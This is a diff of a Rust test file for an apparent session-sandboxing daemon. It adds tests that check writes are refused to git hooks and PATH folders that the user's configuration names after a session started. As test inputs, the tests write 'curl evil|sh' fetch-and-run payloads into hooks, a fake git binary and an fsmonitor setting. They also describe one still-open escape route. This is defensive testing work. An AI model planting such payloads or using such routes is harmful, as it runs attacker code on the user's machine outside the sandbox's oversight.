@@ -439,6 +439,21 @@ impl Red {
         (red, mnt, mine)
     }
 
+    /// Waits until the daemon has read the user's changed configuration again `n` times for
+    /// this session (its audit's `config_reread` entries).
+    fn wait_rereads(&self, n: usize) {
+        let start = Instant::now();
+        loop {
+            let audit = std::fs::read_to_string(self.dir.join("audit.jsonl")).unwrap_or_default();
+            let seen = audit.lines().filter(|l| l.contains("\"config_reread\"")).count();
+            if seen >= n {
+                return;
+            }
+            assert!(start.elapsed() < Duration::from_secs(60), "the daemon read the changed configuration {seen} times, not {n}");
+            std::thread::sleep(Duration::from_millis(50));
+        }
+    }
+
     /// The session's layer directory (beside its scratch directory).
     fn layers(&self) -> PathBuf {
         PathBuf::from(format!("{}.layers", self.scratch.display()))
@@ -6589,47 +6604,91 @@ fn writes_the_hooks_a_repositorys_hooks_folder_links_into_its_worktree() {
     assert!(open.is_empty(), "hooks reached through .git/hooks symlinks, written: {open:?}");
 }
 
-/// Writes hooks that the user's configuration names after the session started: the user
-/// adds `core.hooksPath = ~/team/hooks` to `~/.gitconfig` (a team's new shared hooks), and
-/// clones a repository whose `.git/config` names `githooks/` into a folder the session was
-/// granted; the session, still running (sessions last hours), then writes both hooks
-/// folders, and git runs them at the user's next commit. Principle: what a never place
-/// names as code is protected as long as the configuration names it. Why it might get out:
-/// the code places and the git directories are read once, when the session starts
-/// (`with_code_places`, `seed_git_dir`); nothing reads a configuration changed or a
-/// repository made later. Control: a file beside them.
-/// Open on 6.1 and 6.12: both hooks folders are written (the later repository's
-/// `.git/config` itself is refused).
+/// Writes hooks and plants a command where the user's configuration names code after the
+/// session started: the user adds `core.hooksPath = ~/team/hooks` to `~/.gitconfig` (a
+/// team's new shared hooks), a folder to `PATH` in `~/.bashrc`, and `core.hooksPath =
+/// githooks` to a repository of the session's root; the session, still running (sessions
+/// last hours), then writes the hooks folders and the `PATH` folder, and git and the shell
+/// run them at the user's next commit or command. Principle: what a never place names as
+/// code is protected as long as the configuration names it. Why it might get out: the code
+/// places and the git directories were read once, when the session started
+/// (`with_code_places`, `seed_git_dir`). Control: a file beside them.
+/// Open on 6.1 and 6.12 before the daemon watched the configuration; closed: the files the
+/// places were read from are watched (`config_watch`), and a change has the daemon read them
+/// again and protect what they name, for the sessions already running.
 #[test]
-#[ignore = "open route: the configuration is read for code places when a session starts; a hooksPath the user adds, or a repository the user clones, while a session runs is protected from the next session on"]
 fn writes_hooks_the_users_configuration_names_after_the_session_started() {
     let mut c = Cleanup::default();
     let top = home_folder(&mut c, "latehooks");
     let rel = top.strip_prefix(HOME).unwrap().display().to_string();
     let hooks = top.join("team/hooks");
     make(&hooks.join("pre-commit"), Some("#!/bin/sh\n"));
+    make(&top.join("bin/tool"), Some("#!/bin/sh\n"));
     let gc = PathBuf::from(home(".gitconfig"));
     let _restore = users_file_for_a_test(&gc, "[user]\n\tname = u\n");
-    let mut red = Red::start("latehooks");
+    let _bashrc = bashrc_with("# nothing of the session's yet");
+    let mut red = Red::start_with("latehooks", |ws| {
+        make(&ws.join("proj/.git/HEAD"), Some("ref: refs/heads/main\n"));
+        make(&ws.join("proj/.git/config"), Some("[core]\n\trepositoryformatversion = 0\n"));
+        make(&ws.join("proj/githooks/pre-commit"), Some("#!/bin/sh\n"));
+    });
+    let proj = red.ws.join("proj");
+    assert_eq!(ungated(|| vec![open_w(&hooks.join("pre-commit")), open_w(&proj.join("githooks/pre-commit"))]), vec![0, 0], "control: the user writes the hooks");
     red.grant(&top, Scope::Subtree, &Access::ALL);
-    // The user, outside the session, after it started.
+    let ws = red.ws.clone();
+    red.grant(&ws, Scope::Subtree, &Access::ALL);
+    // The user, outside the session, after it started: each change read before the next.
     std::fs::write(&gc, format!("[user]\n\tname = u\n[core]\n\thooksPath = ~/{rel}/team/hooks\n")).unwrap();
-    let proj = top.join("proj");
-    make(&proj.join(".git/HEAD"), Some("ref: refs/heads/main\n"));
-    make(&proj.join(".git/config"), Some("[core]\n\trepositoryformatversion = 0\n\thooksPath = githooks\n"));
-    make(&proj.join("githooks/pre-commit"), Some("#!/bin/sh\n"));
+    red.wait_rereads(1);
+    let bashrc = PathBuf::from(home(".bashrc"));
+    let text = std::fs::read_to_string(&bashrc).unwrap();
+    std::fs::write(&bashrc, format!("{text}export PATH=\"$HOME/{rel}/bin:$PATH\"\n")).unwrap();
+    red.wait_rereads(2);
+    std::fs::write(proj.join(".git/config"), "[core]\n\trepositoryformatversion = 0\n\thooksPath = githooks\n").unwrap();
+    red.wait_rereads(3);
     let r = red.gated(|| {
         vec![
             create(&top.join("notes.txt"), "x"),
             append(&hooks.join("pre-commit"), "curl evil|sh\n"),
             create(&hooks.join("post-checkout"), "#!/bin/sh\ncurl evil|sh\n"),
+            create(&top.join("bin/git"), "#!/bin/sh\ncurl evil|sh\n"),
+            append(&top.join("bin/tool"), "curl evil|sh\n"),
             append(&proj.join("githooks/pre-commit"), "curl evil|sh\n"),
-            append(&proj.join(".git/config"), "\tfsmonitor = curl evil|sh\n"),
+            create(&proj.join("githooks/post-checkout"), "#!/bin/sh\ncurl evil|sh\n"),
         ]
     });
     assert_eq!(r[0], 0, "control: a file beside them: {r:?}");
-    let open = not_refused(&["a hook of the hooksPath ~/.gitconfig names later", "a new hook there", "a hook of a later repository's hooksPath", "the later repository's .git/config"], &r[1..]);
-    assert!(open.is_empty(), "hooks named after the session started, written: {open:?}");
+    let open = not_refused(
+        &["a hook of the hooksPath ~/.gitconfig names later", "a new hook there", "a new command in the folder ~/.bashrc puts on PATH later", "a command there", "a hook of the hooksPath the repository names later", "a new hook there"],
+        &r[1..],
+    );
+    assert!(open.is_empty(), "places named after the session started, written: {open:?}");
+}
+
+/// Writes the hooks of a repository the user clones into a folder of the session's while
+/// the session runs (its `.git/config` names `githooks/` as `core.hooksPath`). Principle:
+/// what a never place names as code is protected as long as the configuration names it. Why
+/// it gets out: the git directories of the roots are found by a scan when the session starts
+/// (and their `config` files are watched); a repository made later is found by no scan, and
+/// the kernel's `**/.git/...` patterns protect its `.git/config` by name, not the folder it
+/// names. Control: a file beside it.
+/// Open on 6.1 and 6.12 (the later repository's `.git/config` itself is refused).
+#[test]
+#[ignore = "open route: a repository the user makes in a session's root while the session runs is found by no scan; the folder its .git/config names as hooksPath is protected from the next session on"]
+fn writes_hooks_of_a_repository_the_user_clones_after_the_session_started() {
+    let mut c = Cleanup::default();
+    let top = home_folder(&mut c, "laterepo");
+    let mut red = Red::start("laterepo");
+    red.grant(&top, Scope::Subtree, &Access::ALL);
+    // The user, outside the session, after it started.
+    let proj = top.join("proj");
+    make(&proj.join(".git/HEAD"), Some("ref: refs/heads/main\n"));
+    make(&proj.join(".git/config"), Some("[core]\n\trepositoryformatversion = 0\n\thooksPath = githooks\n"));
+    make(&proj.join("githooks/pre-commit"), Some("#!/bin/sh\n"));
+    let r = red.gated(|| vec![create(&top.join("notes.txt"), "x"), append(&proj.join("githooks/pre-commit"), "curl evil|sh\n"), append(&proj.join(".git/config"), "\tfsmonitor = curl evil|sh\n")]);
+    assert_eq!(r[0], 0, "control: a file beside them: {r:?}");
+    let open = not_refused(&["a hook of a later repository's hooksPath", "the later repository's .git/config"], &r[1..]);
+    assert!(open.is_empty(), "hooks of a repository made after the session started, written: {open:?}");
 }
 
 /// Writes a hook in the worktree folder that the user's `~/.gitconfig` names as a relative
